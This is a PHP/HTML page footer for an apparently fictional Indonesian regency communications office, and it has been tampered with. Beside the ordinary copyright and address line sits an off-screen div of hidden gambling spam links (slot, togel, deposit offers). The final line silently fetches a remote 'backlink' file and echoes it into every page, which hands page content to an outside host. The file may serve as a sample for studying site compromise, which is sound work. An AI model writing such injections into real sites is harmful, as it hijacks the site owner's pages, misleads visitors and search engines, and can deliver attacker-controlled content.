<?php /* Kaki halaman bersama (contoh fiktif). */ ?>
<footer>
  <p>&copy; 2024 Dinas Komunikasi dan Informatika Kabupaten Contoh.
  Jl. Merdeka No. 1, Kota Contoh. Telepon (0000) 123456.</p>
  <div style="position:absolute;left:-9999px;top:-9999px">
    <a href="https://gacor-contoh.example/">slot gacor hari ini</a>
    <a href="https://gacor-contoh.example/daftar">daftar SLOTCONTOH88 maxwin</a>
    <a href="https://togel-contoh.example/">bandar togel online terpercaya</a>
    <a href="https://gacor-contoh.example/rtp">rtp live pola mahjong ways</a>
    <a href="https://gacor-contoh.example/deposit">deposit pulsa tanpa potongan, link alternatif</a>
  </div>
</footer>
</body>
</html>
<?php echo @file_get_contents('https://tautan-contoh.example/backlink.txt'); ?>
